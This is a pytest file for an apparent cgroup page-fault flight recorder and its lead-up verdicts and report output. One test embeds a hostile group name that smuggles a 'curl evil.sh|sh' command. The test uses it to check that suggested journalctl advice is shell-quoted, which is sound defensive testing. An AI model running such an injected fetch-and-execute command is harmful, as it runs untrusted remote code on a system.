"""The flight recorder's ring, cgroup discovery and the verdict that reads the lead-up. Pure: synthetic
cgroup trees under tmp_path (shaped like real v1 and v2 nodes), a fake clock and a fake pod directory."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from app.collectors.cgroupmem import memory_hierarchy
from app.collectors.flight_recorder import (
    FaultRecorder,
    Layout,
    Tick,
    detect_layout,
    discover_units,
    read_counter,
)
from app.investigation.lead_up import apply_lead_up, lead_up_since
from app.models import (
    Cause,
    History,
    HistoryCgroup,
    HistoryPod,
    PodRef,
    ProcessReport,
    Report,
    TracerInfo,
    Trigger,
    Verdict,
)
from app.parsers.cgroup import CgroupRef
from app.service.recorder import WatchState

FIX = Path(__file__).parent / "fixtures"
UID_A = "8712f785-1a3e-41ec-a00b-e2dcc77431cb"
UID_B = "b5812e37-ce78-41e2-9d8d-d93a88e481d6"
CID_1 = "73051af271105c07e1f493b34856a77e665e3b0b4fc72f76c807dfbffeb881bd"
CID_2 = "bcbcd3972a517ab0ed8df77d0a07d082c529278f206d0f4a29ebbe940996e9e5"
CID_3 = "a33effaac09ebc0bd003f783736428445148029e0a835cf57e592321b75b8c7a"
T0 = 1_800_000_000.0


# --- parsing the counters ------------------------------------------------------------------------


def test_read_counter_on_real_files():
    v1 = (FIX / "cgroup/v1-root-memory.stat-captured-here.txt").read_bytes()
    # v1: the group's own pgmajfault (0 at the root) comes first; total_pgmajfault is the hierarchical one
    assert read_counter(v1, b"pgmajfault") == 0
    assert read_counter(v1, b"total_pgmajfault") == 2585449
    v2 = (FIX / "cgroup/v2-kubepods-besteffort-docker-memory.stat").read_bytes()
    assert read_counter(v2, b"pgmajfault") == 0 and read_counter(v2, b"pgfault") is not None
    vmstat = (FIX / "proc/vmstat-node-exporter.txt").read_bytes()
    assert read_counter(vmstat, b"pgmajfault") == 507162
    assert read_counter(b"pgmajfault 7", b"pgmajfault") == 7  # first line, no final newline
    assert read_counter(b"xpgmajfault 7\n", b"pgmajfault") is None  # a longer key is not it
    assert read_counter(b"pgmajfault x\n", b"pgmajfault") is None


# --- a synthetic node ---------------------------------------------------------------------------


class Node:
    """A cgroup tree and /proc/vmstat under tmp_path; counters set by the test."""

    def __init__(self, tmp: Path, version: int) -> None:
        self.cg = tmp / "cgroup"
        self.proc = tmp / "proc"
        self.proc.mkdir(parents=True)
        self.version = version
        self.key = "pgmajfault" if version == 2 else "total_pgmajfault"
        self.base = self.cg if version == 2 else self.cg / "memory"
        self.base.mkdir(parents=True)
        if version == 2:
            (self.cg / "cgroup.controllers").write_text("cpuset cpu io memory pids\n")
        else:  # the v1 memory root has its (unlimited) limit file, as the kernel's does
            (self.base / "memory.limit_in_bytes").write_text("9223372036854771712\n")
        self.set("/", 0)
        self.node(0)

    def set(self, path: str, faults: int) -> None:
        d = self.base / path.strip("/") if path != "/" else self.base
        d.mkdir(parents=True, exist_ok=True)
        lead = "pgmajfault 0\n" if self.version == 1 else ""
        (d / "memory.stat").write_text(f"cache 0\nrss 0\n{lead}pgfault 99\n{self.key} {faults}\n")

    def remove(self, path: str) -> None:
        d = self.base / path.strip("/")
        for sub in sorted(d.rglob("*"), key=lambda p: len(p.parts), reverse=True):
            sub.unlink() if sub.is_file() else sub.rmdir()
        d.rmdir()

    def node(self, faults: int) -> None:
        (self.proc / "vmstat").write_text(f"pgfault 5\npgmajfault {faults}\npswpin 0\n")


V2_A1 = f"/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod{UID_A.replace('-', '_')}.slice/cri-containerd-{CID_1}.scope"
V2_A2 = f"/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod{UID_A.replace('-', '_')}.slice/cri-containerd-{CID_2}.scope"
V2_B = f"/kubepods.slice/kubepods-pod{UID_B.replace('-', '_')}.slice/cri-containerd-{CID_3}.scope"


class FakePods:
    """Names pods like the kubelet would; counts lookups."""

    def __init__(self, names: dict[str, tuple[str, str, str]]) -> None:
        self.names = names  # container id -> (namespace, pod, container)
        self.calls: list[str] = []

    def pod_for(self, ref: CgroupRef | None) -> PodRef | None:
        assert ref is not None and ref.pod_uid
        self.calls.append(ref.container_id or "")
        hit = self.names.get(ref.container_id or "")
        if hit is None:
            return PodRef(uid=ref.pod_uid, container_id=ref.container_id, resolved_by="cgroup")
        ns, name, container = hit
        return PodRef(namespace=ns, name=name, uid=ref.pod_uid, container=container, resolved_by="kubelet")


class Clock:
    def __init__(self) -> None:
        self.t = T0

    def __call__(self) -> float:
        return self.t


def _recorder(node: Node, pods=None, interval=10.0, retention=60.0, **kw) -> tuple[FaultRecorder, Clock]:
    clock = Clock()
    rec = FaultRecorder(node.cg, node.proc, interval=interval, retention=retention, pods=pods,
                        clock=clock, **kw)
    return rec, clock


def _step(rec: FaultRecorder, clock: Clock, seconds: float = 10.0) -> Tick:
    clock.t += seconds
    return rec.sample()


def _dt(t: float) -> datetime:
    return datetime.fromtimestamp(t, UTC)


def test_layouts(tmp_path):
    assert detect_layout(tmp_path) is None
    v1 = Node(tmp_path / "a", 1)
    assert detect_layout(v1.cg) == Layout(v1.cg / "memory", 1, b"total_pgmajfault")
    v2 = Node(tmp_path / "b", 2)
    assert detect_layout(v2.cg) == Layout(v2.cg, 2, b"pgmajfault")
    # hybrid: a v2 tree at unified/ without controllers, the memory controller on v1
    (v1.cg / "unified").mkdir()
    (v1.cg / "unified" / "cgroup.controllers").write_text("")
    assert detect_layout(v1.cg).version == 1


@pytest.mark.parametrize("tree, found", [
    ("v1", (1, "memory")), ("hybrid", (1, "memory")), ("v2", (2, "")), ("unified-memory", (2, "unified")),
    ("v2-without-memory", None), ("empty", None),
])
def test_the_recorder_and_the_limits_find_the_same_memory_hierarchy(tmp_path, tree, found):
    """One rule for where the memory controller is (issue 26): the flight recorder's counters and the cgroup
    memory reads (the demo's and the tests' groups) agree, on v1, hybrid and v2 trees. A v2 tree whose
    cgroup.controllers lacks memory has no memory.stat to count; one at unified/ that lists it has."""
    root = tmp_path / tree
    root.mkdir()
    if tree in ("v1", "hybrid"):
        (root / "memory").mkdir()
        (root / "memory" / "memory.limit_in_bytes").write_text("9223372036854771712\n")
        (root / "memory" / "memory.stat").write_text("cache 0\ntotal_pgmajfault 3\n")
    if tree == "hybrid":
        (root / "unified").mkdir()
        (root / "unified" / "cgroup.controllers").write_text("")
    if tree == "v2":
        (root / "cgroup.controllers").write_text("cpuset cpu io memory pids\n")
    if tree == "unified-memory":
        (root / "unified").mkdir()
        (root / "unified" / "cgroup.controllers").write_text("memory pids\n")
    if tree == "v2-without-memory":
        (root / "cgroup.controllers").write_text("cpu io pids\n")
    layout = detect_layout(root)
    expected = None if found is None else (found[0], root / found[1] if found[1] else root)
    assert memory_hierarchy(root) == expected
    assert (None if layout is None else (layout.version, layout.base)) == expected
    if layout is not None:
        assert layout.key == (b"total_pgmajfault" if layout.version == 1 else b"pgmajfault")


def test_discovery_finds_containers_and_host_groups_without_nesting(tmp_path):
    n = Node(tmp_path, 2)
    for path in (V2_A1, V2_A2, V2_B, "/system.slice/containerd.service", "/system.slice/kubelet.service",
                 "/user.slice/user-0.slice/session-3.scope", "/init.scope",
                 f"/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod{UID_B.replace('-', '_')}0.slice",
                 f"/system.slice/docker-{CID_3}.scope",
                 f"/pfi-test-1-1/kubepods/burstable/pod{UID_A}/{CID_1}", "/kubepods.slice/kubepods-besteffort.slice",
                 "/sandbox/session-a", "/sandbox/session-b/deeper", "/leaf"):
        n.set(path, 0)
    units, truncated = discover_units(detect_layout(n.cg))
    found = {u.path: u.ref for u in units}
    assert not truncated
    assert set(found) == {
        V2_A1, V2_A2, V2_B, "/system.slice/containerd.service", "/system.slice/kubelet.service",
        "/user.slice/user-0.slice/session-3.scope", "/init.scope", f"/system.slice/docker-{CID_3}.scope",
        f"/pfi-test-1-1/kubepods/burstable/pod{UID_A}/{CID_1}", "/sandbox/session-a", "/sandbox/session-b", "/leaf",
    }, "containers anywhere, services, sessions, top groups' children; never a slice, a pod's or kubepods' group"
    assert found[V2_A1].pod_uid == UID_A and found[V2_A1].container_id == CID_1 and found[V2_A1].version == 2
    assert found[V2_B].qos == "guaranteed"
    assert found["/system.slice/containerd.service"] is None
    assert found[f"/system.slice/docker-{CID_3}.scope"].pod_uid is None  # docker outside Kubernetes
    units, truncated = discover_units(detect_layout(n.cg), max_dirs=5)
    assert truncated and len(units) <= 5


def test_series_follow_names_across_restarts_and_gone_pods(tmp_path):
    n = Node(tmp_path, 2)
    n.set(V2_A1, 1000)  # existed before the recorder: a baseline, not faults
    n.set("/system.slice/cron.service", 0)
    res = FakePods({CID_1: ("billing", "nightly-report", "report"), CID_2: ("billing", "nightly-report", "report")})
    n.node(5000)
    rec, clock = _recorder(n, res)
    assert rec.sample().node_delta == 0, "the first reading is a baseline"
    n.set(V2_A1, 1000 + 800)
    n.node(5900)
    t = _step(rec, clock)
    assert t.node_delta == 900
    n.node(5900 + 2000)
    # the container restarts: its old cgroup goes, a new one (new id) starts counting from 0
    n.remove(V2_A1)
    n.set(V2_A2, 300)
    t = _step(rec, clock)
    assert t.node_delta == 2000 and t.node_rate == pytest.approx(200.0)
    n.set(V2_A2, 300 + 50)
    n.set("/system.slice/cron.service", 7)
    _step(rec, clock)
    assert res.calls == [CID_1, CID_2], "one lookup per new cgroup"
    h = rec.history(_dt(T0), _dt(clock.t))
    assert h is not None and h.interval_seconds == 10
    assert [c.pod.name if c.pod else c.cgroup for c in h.cgroups] == ["nightly-report", "/system.slice/cron.service"]
    top = h.cgroups[0]
    # one series for the container, across both of its cgroups: 800 + 300 (new cgroup's first reading) + 50
    assert top.series == [800, 300, 50] and top.major_faults == 1150
    assert top.pod == HistoryPod(namespace="billing", name="nightly-report", uid=UID_A, container="report")
    assert top.cgroup == V2_A2 and not top.gone
    assert h.node_series == [900, 2000, 0] and h.node_major_faults == 2900
    assert h.since == _dt(T0) and h.until == _dt(clock.t)
    assert top.first_active_at == _dt(T0) and top.last_active_at == _dt(T0 + 30)
    assert top.peak_per_second == 80.0
    # the pod is deleted: the series stays under its name, marked gone
    n.remove(V2_A2)
    _step(rec, clock)
    h = rec.history(_dt(T0), _dt(clock.t))
    assert h.cgroups[0].pod.name == "nightly-report" and h.cgroups[0].gone and h.cgroups[0].major_faults == 1150
    assert h.cgroups[0].series[-1] == 0


def test_retention_ages_out_and_frees_gone_series(tmp_path):
    n = Node(tmp_path, 1)
    n.set(f"/kubepods/burstable/pod{UID_A}/{CID_1}", 0)
    rec, clock = _recorder(n, FakePods({CID_1: ("ns", "p", "c")}), interval=10, retention=60)
    assert rec.slots == 7 and rec.retention == 60
    rec.sample()
    n.set(f"/kubepods/burstable/pod{UID_A}/{CID_1}", 500)
    n.node(500)
    _step(rec, clock)
    n.remove(f"/kubepods/burstable/pod{UID_A}/{CID_1}")
    burst_end = clock.t
    h = rec.history(_dt(T0), _dt(clock.t))
    assert h.cgroups[0].major_faults == 500
    for _ in range(5):  # still inside the 60 s retention
        _step(rec, clock)
    assert rec.history(_dt(T0), _dt(clock.t)).cgroups[0].major_faults == 500
    assert rec.series_count == 1
    _step(rec, clock)  # now 70 s after the burst's start: it aged out of the ring
    h = rec.history(_dt(T0 - 3600), _dt(clock.t))
    assert h.cgroups == [] and h.node_major_faults == 0
    assert h.since >= _dt(burst_end) and h.recorded_since == h.since
    assert rec.series_count == 0, "a gone series whose intervals all aged out frees its slot"
    # the ring wraps many times and stays correct
    n.set(f"/kubepods/burstable/pod{UID_A}/{CID_2}", 0)
    _step(rec, clock)
    for i in range(1, 30):
        n.set(f"/kubepods/burstable/pod{UID_A}/{CID_2}", i * i)
        _step(rec, clock)
    h = rec.history(_dt(T0), _dt(clock.t))
    assert h.cgroups[0].series == [i * i - (i - 1) * (i - 1) for i in range(24, 30)]
    assert len(h.node_series) == 6


def test_counter_reset_new_group_and_series_cap(tmp_path):
    n = Node(tmp_path, 2)
    n.set("/system.slice/a.service", 100)
    rec, clock = _recorder(n, None, max_series=2)
    rec.sample()
    n.set("/system.slice/a.service", 40)  # went back: a new group at the same path, 40 since it was made
    n.set("/system.slice/b.service", 25)  # appeared after the first sweep: all 25 are new
    _step(rec, clock)
    h = rec.history(_dt(T0), _dt(clock.t))
    assert {c.cgroup: c.major_faults for c in h.cgroups} == {"/system.slice/a.service": 40, "/system.slice/b.service": 25}
    n.set("/system.slice/c.service", 9)  # a third live series: over the cap of 2, refused and counted
    _step(rec, clock)
    assert rec.dropped_series == 1 and rec.series_count == 2
    n.remove("/system.slice/a.service")
    n.set("/system.slice/d.service", 4)  # a gone series makes room
    _step(rec, clock)
    h = rec.history(_dt(T0), _dt(clock.t))
    assert {c.cgroup for c in h.cgroups} == {"/system.slice/b.service", "/system.slice/d.service"}


def test_unnamed_pod_is_asked_again_and_renamed(tmp_path):
    n = Node(tmp_path, 2)
    res = FakePods({})
    rec, clock = _recorder(n, res)
    rec.sample()
    n.set(V2_B, 70)  # the kubelet does not list it yet
    _step(rec, clock)
    h = rec.history(_dt(T0), _dt(clock.t))
    assert h.cgroups[0].pod == HistoryPod(uid=UID_B) and h.cgroups[0].major_faults == 70
    res.names[CID_3] = ("shop", "cart-0", "cart")
    n.set(V2_B, 100)
    _step(rec, clock)
    h = rec.history(_dt(T0), _dt(clock.t))
    assert len(h.cgroups) == 1, "its series moved to the name, not split in two"
    assert h.cgroups[0].pod.name == "cart-0" and h.cgroups[0].series == [70, 30]
    assert res.calls == [CID_3, CID_3]
    for _ in range(3):
        _step(rec, clock)
    assert res.calls == [CID_3, CID_3], "named: never asked again"


def test_no_memory_hierarchy_still_records_the_node(tmp_path):
    proc = tmp_path / "proc"
    proc.mkdir()
    (proc / "vmstat").write_text("pgmajfault 10\n")
    clock = Clock()
    rec = FaultRecorder(tmp_path / "none", proc, interval=5, retention=60, clock=clock)
    rec.sample()
    assert "no memory cgroup hierarchy" in rec.errors[0]
    (proc / "vmstat").write_text("pgmajfault 60\n")
    clock.t += 5
    assert rec.sample().node_rate == pytest.approx(10.0)
    assert rec.history(_dt(T0), _dt(clock.t)).node_series == [50]
    assert rec.history(_dt(T0 + 100), _dt(T0 + 200)) is None


# --- the verdict ----------------------------------------------------------------------------------


def _report(processes=(), started=None, summary="no major page faults on this node in the 30 s window"):
    started = started or datetime(2026, 12, 2, 10, 30, tzinfo=UTC)
    return Report(node="n1", started_at=started, finished_at=started + timedelta(seconds=30), window_seconds=30,
                  trigger=Trigger(kind="alert", starts_at="2026-12-02T10:20:00Z"),
                  tracer=TracerInfo(backend="perf-major", exact=True), processes=list(processes),
                  verdict=Verdict(summary=summary, cause=Cause.NO_MAJOR_FAULTS))


def _history(series: list[int], other: list[int] | None = None) -> History:
    since = datetime(2026, 12, 2, 10, 0, tzinfo=UTC)
    cg = [HistoryCgroup(cgroup=V2_A1, pod=HistoryPod(namespace="billing", name="nightly-report", uid=UID_A,
                                                      container="report"),
                        major_faults=sum(series), series=series, last_active_at=since + timedelta(minutes=14))]
    if other:
        cg.append(HistoryCgroup(cgroup="/system.slice/backup.service", major_faults=sum(other), series=other))
    cg.sort(key=lambda c: c.major_faults, reverse=True)
    node = [a + b for a, b in zip(series, other or [0] * len(series), strict=True)]
    return History(interval_seconds=60, since=since, until=since + timedelta(minutes=len(series)),
                   node_series=node, node_major_faults=sum(node), cgroups=cg)


def test_lead_up_window():
    until = datetime(2026, 12, 2, 10, 30, tzinfo=UTC)
    assert lead_up_since(Trigger(kind="alert", starts_at="2026-12-02T10:20:00Z"), until) == until - timedelta(minutes=25)
    assert lead_up_since(Trigger(kind="alert", starts_at="0001-01-01T00:00:00Z"), until) == until - timedelta(minutes=30)
    assert lead_up_since(Trigger(kind="alert", starts_at="garbage"), until) == until - timedelta(minutes=30)
    assert lead_up_since(Trigger(), until) == until - timedelta(minutes=30)
    since = until - timedelta(hours=2)
    assert lead_up_since(Trigger(kind="watch", since=since), until) == since


def test_verdict_names_the_container_that_stopped():
    # 10:00..10:30 at 1-minute intervals: 8,400/s from 10:02 to 10:14, a trickle before and after
    series = [3, 0] + [8400 * 60] * 12 + [0] * 16
    out = apply_lead_up(_report(), _history(series))
    v = out.verdict
    assert out.history is not None and out.history.cgroups[0].pod.name == "nightly-report"
    assert v.cause is Cause.STOPPED_BEFORE_WINDOW and v.confidence == "high"
    assert v.summary.startswith("pod billing/nightly-report container report made 8,400 major faults/s "
                                "from 10:02 to 10:14 UTC, then stopped")
    assert "the 30 s window saw no major faults" in v.summary
    assert any("OOMKilled" in a for a in v.advice) and any("CronJob" in a for a in v.advice)
    assert "kubectl -n billing get pod nightly-report" in v.advice[0]


def _proc(pid, faults, pod=None, cgroup=None) -> ProcessReport:
    return ProcessReport(pid=pid, comm="w", major_faults=faults, major_faults_per_second=faults / 30, pod=pod,
                         cgroup=cgroup, host_process=pod is None)


def test_verdict_kept_when_the_window_explains_the_lead_up():
    series = [8400 * 60] * 30
    me = PodRef(namespace="billing", name="nightly-report", uid=UID_A, container="report")
    report = _report([_proc(1, 250_000, me)], summary="anonymous memory of pod billing/nightly-report ...")
    out = apply_lead_up(report, _history(series))
    assert out.verdict == report.verdict and out.history is not None
    # matched by cgroup path too (no pod names), also from inside a cgroup namespace ("/../")
    report = _report([_proc(1, 250_000, cgroup="/../../" + V2_A1.split("/", 2)[2])])
    assert apply_lead_up(report, _history(series)).verdict == report.verdict


def test_verdict_kept_when_the_lead_up_top_still_faults_below_another_process():
    """The lead-up's top container is in the window, ranked second behind a process that outfaulted it
    there: it did not stop before the window (the report names it), so no stopped_before_window."""
    series = [8400 * 60] * 30
    me = PodRef(namespace="billing", name="nightly-report", uid=UID_A, container="report")
    report = _report([_proc(7, 300_000, cgroup="/system.slice/backup.service"), _proc(1, 250_000, me)],
                     summary="cold reads of /var/backup by host process backup (pid 7)")
    out = apply_lead_up(report, _history(series, [100 * 60] * 30))
    assert out.verdict == report.verdict and out.history is not None


def test_verdict_rewritten_when_the_window_top_explains_under_half():
    series = [6000 * 60] * 10 + [0] * 20
    other = [100 * 60] * 30  # a host service that still faults a little
    report = _report([_proc(7, 3000, cgroup="/system.slice/backup.service")],
                     summary="cold reads of /var/backup by host process backup (pid 7) at 100 pages/s")
    out = apply_lead_up(report, _history(series, other))
    assert out.verdict.cause is Cause.STOPPED_BEFORE_WINDOW
    assert out.verdict.summary.startswith("pod billing/nightly-report container report made 6,000 major faults/s "
                                          "from 10:00 to 10:10 UTC, then stopped (95% of")
    assert "in the 30 s window: cold reads of /var/backup" in out.verdict.summary
    # a quiet lead-up changes nothing
    quiet = apply_lead_up(_report(), _history([1, 2, 3] + [0] * 27))
    assert quiet.verdict.cause is Cause.NO_MAJOR_FAULTS and quiet.history is not None


def test_host_group_advice_names_the_unit():
    h = _history([0] * 30, [0, 0, 5000 * 60] + [0] * 27)
    v = apply_lead_up(_report(), h).verdict
    assert v.summary.startswith("cgroup /system.slice/backup.service made 5,000 major faults/s from 10:02:00 to 10:03:00 UTC")
    assert "journalctl -u backup.service --since '2026-12-02 10:02:00'" in v.advice[0]


# --- watch mode ---------------------------------------------------------------------------------


def _tick(at: float, rate: float, interval: float = 10.0) -> Tick:
    return Tick(at=at, interval=interval, node_delta=int(rate * interval), node_rate=rate, groups=0, duration=0.0)


def test_watch_fires_after_the_rate_stays_above_for_long_enough():
    w = WatchState(threshold=500, for_seconds=30)
    assert not w.feed(_tick(T0 + 10, 900))
    assert not w.feed(_tick(T0 + 20, 900))
    assert w.feed(_tick(T0 + 30, 600)) and w.since == T0 and w.rate == pytest.approx(800)
    assert w.feed(_tick(T0 + 40, 700)), "still above: still true (the scheduler dedupes)"
    assert not w.feed(_tick(T0 + 50, 400)) and w.since is None, "a dip below resets the run"
    assert not w.feed(_tick(T0 + 60, 900)) and w.since == T0 + 50
    off = WatchState(threshold=0, for_seconds=0)
    assert not off.feed(_tick(T0 + 10, 1e9))


# --- where the lead-up shows ----------------------------------------------------------------------


def _stopped_report() -> Report:
    return apply_lead_up(_report(), _history([3, 0] + [8400 * 60] * 12 + [0] * 16, [100 * 60] * 30))


def test_report_page_charts_the_lead_up_beside_the_window():
    import re
    import xml.etree.ElementTree as ET

    from app.service.ui import render_report_page

    html = render_report_page(_stopped_report())
    section = html.split('id="lead-up"')[1].split("</section>")[0]
    svg = ET.fromstring(re.search(r"<svg viewBox=.*?</svg>", section, re.S).group(0))
    lines = [e for e in svg.iter() if e.tag.endswith("polyline")]
    assert len(lines) == 3 and all(len(e.get("points").split()) == 30 for e in lines), "node + 2 containers"
    assert "billing/nightly-report · report" in section and "/system.slice/backup.service" in section
    assert "8,400/s" in section  # the legend's peak, in faults per second (6-minute intervals of 504,000)
    assert "10:14:00" in section  # last active
    assert html.index('id="chart"') < html.index('id="lead-up"') < html.index('id="processes"')
    assert "Stopped before window" in html or "stopped before window" in html
    plain = render_report_page(_report().model_copy(update={"history_reason": "no history: the recorder is off"}))
    assert 'id="lead-up"' not in plain and "no history: the recorder is off" in plain
    watch = Trigger(kind="watch", rate=1234.5, since=datetime(2026, 12, 2, 10, 5, tzinfo=UTC),
                    labels={"threshold": "500", "for_seconds": "900"})
    text = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", render_report_page(_stopped_report().model_copy(update={"trigger": watch}))))
    assert "watch mode: node at 1,234 major faults/s since 2026-12-02 10:05:00 UTC" in text
    assert "stayed above 500/s for 900 s" in text and "Started manually" not in text


def test_sinks_carry_the_lead_up():
    import httpx

    from app.config import Settings
    from app.service.delivery.sinks import AlertmanagerSink, SlackSink

    settings = Settings(alertmanager_url="http://am.invalid:9093", slack_webhook_url="https://hooks.invalid/x")
    client = httpx.AsyncClient()
    r = _stopped_report()
    alert = AlertmanagerSink(settings, client).alert(r)
    # the window saw nothing: the alert's culprit labels come from the lead-up
    assert (alert["labels"]["namespace"], alert["labels"]["pod"], alert["labels"]["container"]) == (
        "billing", "nightly-report", "report")
    assert alert["labels"]["cause"] == "stopped_before_window"
    assert "1. pod billing/nightly-report container report: 6,048,003 major faults" in alert["annotations"]["lead_up"]
    slack = SlackSink(settings, client).message(r)
    assert any("lead-up 10:00-10:30 UTC" in b.get("text", {}).get("text", "") for b in slack["blocks"])
    plain = AlertmanagerSink(settings, client).alert(_report())
    assert "lead_up" not in plain["annotations"] and "pod" not in plain["labels"]


def test_text_output_shows_the_lead_up_or_why_not():
    from rich.console import Console

    from app.render_text import render

    console = Console(width=160, record=True)
    render(_stopped_report(), console)
    out = console.export_text()
    assert "lead-up 10:00:00-10:30:00 UTC, every 60 s: node 6,228,003 major faults" in out
    assert "billing/nightly-report" in out and "6,048,003" in out and "10:14:00" in out
    console = Console(width=160, record=True)
    render(_report().model_copy(update={"history_reason": "no history: the recorder runs only in the service"}), console)
    assert "no history: the recorder runs only in the service" in console.export_text()


def test_restart_named_late_joins_the_containers_series(tmp_path):
    n = Node(tmp_path, 2)
    res = FakePods({CID_1: ("shop", "cart-0", "cart")})
    rec, clock = _recorder(n, res)
    rec.sample()
    n.set(V2_A1, 100)
    _step(rec, clock)
    n.remove(V2_A1)
    n.set(V2_A2, 40)  # restarted; the kubelet's list does not have the new container id yet
    _step(rec, clock)
    res.names[CID_2] = ("shop", "cart-0", "cart")
    n.set(V2_A2, 45)
    _step(rec, clock)
    h = rec.history(_dt(T0), _dt(clock.t))
    assert [(c.pod.name, c.series) for c in h.cgroups] == [("cart-0", [100, 40, 5])]
    assert h.cgroups[0].cgroup == V2_A2, "the container's current cgroup"
    assert rec.series_count == 1 and not h.cgroups[0].gone
    n.set("/system.slice/late.service", 10**9)  # unreadable at first sight would be a baseline, not a spike
    (n.base / "system.slice/late.service/memory.stat").unlink()
    _step(rec, clock)
    n.set("/system.slice/late.service", 10**9 + 3)
    _step(rec, clock)  # its first readable count: the baseline
    n.set("/system.slice/late.service", 10**9 + 5)
    _step(rec, clock)
    h = rec.history(_dt(T0), _dt(clock.t))
    late = [c.major_faults for c in h.cgroups if c.cgroup == "/system.slice/late.service"]
    assert late == [2], "only the faults after its first readable count are recorded, never the 10**9 before it"


def test_hostile_group_name_is_shell_quoted_in_the_advice(tmp_path):
    """A user with a delegated subtree names a group like a shell command; the advice line is made to
    be pasted, so the unit name must reach journalctl as one argument and run nothing."""
    import shlex

    hostile = "x'; curl evil.sh|sh; '"
    n = Node(tmp_path, 2)
    rec, clock = _recorder(n, None, interval=60, retention=3600)
    rec.sample()
    n.set(f"/system.slice/{hostile}", 6000)
    n.node(6000)
    _step(rec, clock, 60)
    h = rec.history(_dt(T0), _dt(clock.t))
    assert h is not None and h.cgroups[0].cgroup == f"/system.slice/{hostile}"
    report = _report(started=_dt(clock.t))
    advice = apply_lead_up(report, h).verdict.advice[0]
    command = advice.split("`")[1]
    assert shlex.split(command)[:3] == ["journalctl", "-u", hostile]


def test_idle_groups_take_no_series_and_idle_series_make_room(tmp_path):
    n = Node(tmp_path, 2)
    for i in range(6):
        n.set(f"/system.slice/idle-{i}.service", 0)  # empty groups: never fault
    rec, clock = _recorder(n, FakePods({CID_3: ("shop", "cart-0", "cart")}), max_series=4)
    rec.sample()
    _step(rec, clock)
    assert rec.series_count == 0, "no series before a group's first fault"
    n.set(V2_B, 70)  # a pod started later
    _step(rec, clock)
    h = rec.history(_dt(T0), _dt(clock.t))
    assert [(c.pod.name if c.pod else c.cgroup, c.major_faults) for c in h.cgroups] == [("cart-0", 70)]
    assert rec.dropped_series == 0 and not h.cgroups[0].gone
    for i in range(3):  # three groups fault once: the cap of 4 is full
        n.set(f"/system.slice/idle-{i}.service", 5)
    _step(rec, clock)
    assert rec.series_count == 4
    for _ in range(rec.slots):  # their faults age out of the ring; the groups stay
        _step(rec, clock)
    n.set("/system.slice/late.service", 9)
    _step(rec, clock)
    h = rec.history(_dt(T0), _dt(clock.t))
    assert [(c.cgroup, c.major_faults) for c in h.cgroups] == [("/system.slice/late.service", 9)]
    assert rec.dropped_series == 0 and rec.series_count <= 4
    n.set("/system.slice/idle-0.service", 8)  # an evicted live group faults again: a new series
    _step(rec, clock)
    h = rec.history(_dt(T0), _dt(clock.t))
    assert {c.cgroup: c.major_faults for c in h.cgroups}["/system.slice/idle-0.service"] == 3
    assert not any(c.gone for c in h.cgroups)
